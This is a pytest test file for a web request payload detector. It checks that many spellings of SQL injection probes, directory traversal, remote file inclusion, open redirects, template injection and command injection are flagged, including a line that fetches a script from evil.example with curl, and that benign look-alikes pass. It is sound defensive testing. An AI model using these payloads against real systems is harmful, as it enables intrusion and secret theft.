"""Coverage by how attacks are written: spellings of one technique blocked together, the benign look-alikes not.

Each test takes one phenomenon (a climb out of a directory written as no
path is, a tool's first probe, a redirect's spellings) and checks several
spellings of it, written here, against the same verdict, and the ordinary
text that looks most like it against the opposite one.
"""
from __future__ import annotations

import random
from urllib.parse import quote

import pytest

from smartlayer.detectors.payload import scan_parts

BLOCK = 3


def query(value: str):
    return scan_parts(query_string="q=" + quote(value, safe=""))


def names(result) -> set[str]:
    return {hit.split("@", 1)[0] for hit in result.hits}


# ── sqlmap's first requests ────────────────────────────────────────────────

def _heuristic_probe(rng: random.Random) -> str:
    """sqlmap's heuristic check: ten characters of ``'"(),.`` with exactly one quote of each kind."""
    while True:
        junk = "".join(rng.choice("'\"(),.") for _ in range(10))
        if junk.count("'") == 1 and junk.count('"') == 1:
            return junk


@pytest.mark.parametrize("seed", range(12))
def test_sqlmaps_heuristic_probe_is_blocked_whatever_its_draw(seed):
    value = "7" + _heuristic_probe(random.Random(seed))
    result = query(value)
    assert result.score >= BLOCK, (value, result.hits)


@pytest.mark.parametrize("value", ["it's \"great\".", "f('a'),", "Hello, \"world\".)", "(see 'a' and \"b\").",
                                   "say \"hi\" (and 'bye').", "a'\"", "x.'\"", "''"])
def test_quotes_and_brackets_of_ordinary_text_are_no_probe(value):
    assert "sqli_syntax_probe" not in names(query(value))


@pytest.mark.parametrize("value", ["1'wQzR<'\">kTbn", "5<\"'>", "'';!--\"<q>=&{()}"])
def test_probes_for_unescaped_output_are_blocked(value):
    assert query(value).score >= BLOCK


# ── climbing out of a directory, however it is written ─────────────────────

@pytest.mark.parametrize("value", [
    "../", "/../", "..\\", "..//x", "..;/x", ".\\..\\.\\..\\x", ".//..//.//..//x", "./.././../x",
    "/........./x", "/./\\/./", "..0x5cx", "..2f..2fx", "..2fetc2fhosts", "..%%32%%66..%%32%%66x",
    "Li4vLi4vYXBwLmluaQ==", "L2V0Yy9ncm91cA==", "ZXRjL2hvc3Rz",
])
def test_a_climb_is_blocked_in_a_short_value_whatever_its_spelling(value):
    result = query(value)
    assert result.score >= BLOCK, (value, result.hits)


@pytest.mark.parametrize("value", [
    "see ../README for details", "...", "wait...", "C:\\Users\\me", "rating ***", "1.0.0.1",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln", "what is .bashrc", "Li4v",
])
def test_dots_slashes_and_base64_of_ordinary_values_are_not_blocked(value):
    assert query(value).score < BLOCK


def test_a_file_named_alone_is_a_hint_not_a_block():
    """A bare path is text a form can carry: borderline at paranoia 1, blocked from 2."""
    for value in ("/.bash_history", "C:/unattend.xml", "/etc/master.passwd"):
        assert 0 < query(value).score < BLOCK, value


def test_remote_inclusion_in_a_urls_own_query_counts_with_its_other_pairs():
    """``?page=http://host/x.txt?&cmd=ls``: the ``?`` that turns what the script appends into a query."""
    result = scan_parts(path="/index.php", query_string="page=http://evil.example/x.txt?&cmd=ls")
    assert "rfi_url_trailing_question" in names(result) and result.score >= BLOCK


# ── open redirects: borderline, whatever the spelling ──────────────────────

@pytest.mark.parametrize("value", ["///evil.example/", "////evil.example", "/\t/evil.example", "/\\/evil.example",
                                   "/https://evil.example", "https:evil.example", "https:///evil.example",
                                   "////\\;@evil.example"])
def test_open_redirect_spellings_are_borderline(value):
    result = query(value)
    assert "open_redirect" in names(result) and 0 < result.score < BLOCK, result.hits


@pytest.mark.parametrize("value", ["/account/settings/", "https://example.com/page?x=1", "/", "/blog/2024/"])
def test_local_paths_and_plain_urls_are_no_redirect_probe(value):
    assert query(value).score == 0


@pytest.mark.parametrize("value", ["http://0x7f.1/", "http:3627734734", "http://0330.072.0326.0316/"])
def test_a_host_written_as_one_number_is_a_hint(value):
    assert "url_obfuscated_host" in names(query(value))


# ── templates, commands, written-out line breaks ──────────────────────────

@pytest.mark.parametrize("value", ["{{ settings.SECRET_KEY }}", "{{ messages.storages.0.signer.key }}",
                                   "${user.password}", "{{ (1).getClass() }}", "${{<%[%'\"}}%\\."])
def test_templates_reaching_secrets_or_every_engine_at_once_are_blocked(value):
    assert query(value).score >= BLOCK


@pytest.mark.parametrize("value", ["{{ user.name }}", "{{ messages }}", "${price} per month", "{{ user.password_reset_link }}"])
def test_ordinary_template_text_is_not_blocked(value):
    assert query(value).score < BLOCK


@pytest.mark.parametrize("value", ["\\n\\033[2Acurl https://evil.example/x.sh", "\\e[1Asleep 5", ";id\\n", "<id"])
def test_a_terminal_escape_or_written_line_break_separates_a_command(value):
    assert query(value).score >= BLOCK, value


def test_a_written_out_line_break_alone_is_a_hint():
    """Searching how to strip ``\\r\\n`` is ordinary on a developers' site; a header after it is not."""
    assert 0 < query("how to strip \\r\\n in python").score < BLOCK


# ── protocol anomalies: facts of the request, borderline on their own ──────

def _request(method: str, body: str = "", content_type: str = "text/plain"):
    from django.test import RequestFactory

    from smartlayer.detectors.payload import scan_request

    return scan_request(RequestFactory().generic(method, "/api/items", data=body.encode(), content_type=content_type))


@pytest.mark.parametrize(("method", "body", "content_type", "signature"), [
    ("TRACE", "", "text/plain", "method_probe"),
    ("CONNECT", "", "text/plain", "method_probe"),
    ("FOO", "", "text/plain", "method_unknown"),
    ("M-SEARCH", "", "text/plain", "method_unknown"),
    ("GET", "q=1", "application/x-www-form-urlencoded", "body_on_bodiless_method"),
    ("POST", "name=x", "application/json", "content_type_mismatch"),
    ("POST", "text=1", "application/json", "content_type_mismatch"),
    ("POST", '{"a": 1}', "application/x-www-form-urlencoded", "content_type_mismatch"),
    ("POST", "<a>1</a>", "application/x-www-form-urlencoded", "content_type_mismatch"),
    ("PUT", "a,b,c", "application/xml", "content_type_mismatch"),
])
def test_a_protocol_anomaly_is_named_and_only_borderline(method, body, content_type, signature):
    result = _request(method, body, content_type)
    assert signature in names(result) and 0 < result.score < BLOCK, result.hits
    assert any(hit.family == "protocol" and hit.signature == signature for hit in result.details)


@pytest.mark.parametrize(("method", "body", "content_type"), [
    ("GET", "", "text/plain"), ("HEAD", "", "text/plain"), ("OPTIONS", "", "text/plain"),
    ("POST", "a=1&b=2", "application/x-www-form-urlencoded"), ("POST", '{"a": [1, 2]}', "application/json"),
    ("PATCH", "\ufeff [1]", "application/merge-patch+json"), ("PUT", "  <?xml version='1.0'?><a/>", "text/xml"),
    ("DELETE", "", "application/json"), ("PROPFIND", "<d:propfind xmlns:d='DAV:'/>", "application/xml"),
    ("POST", "null", "application/json"), ("POST", "plain words", "text/plain"),
])
def test_ordinary_requests_have_no_anomaly(method, body, content_type):
    assert _request(method, body, content_type).score == 0


def test_an_anomaly_adds_to_the_evidence_of_the_body():
    """A JSON document sent as a form is scanned as the form it claims to be, and weighs one more."""
    body = '{"q": "1 or 2>1"}'
    alone = scan_parts(body=body.encode(), content_type="application/x-www-form-urlencoded")
    result = _request("POST", body, "application/x-www-form-urlencoded")
    assert alone.score > 0 and result.score == alone.score + 1
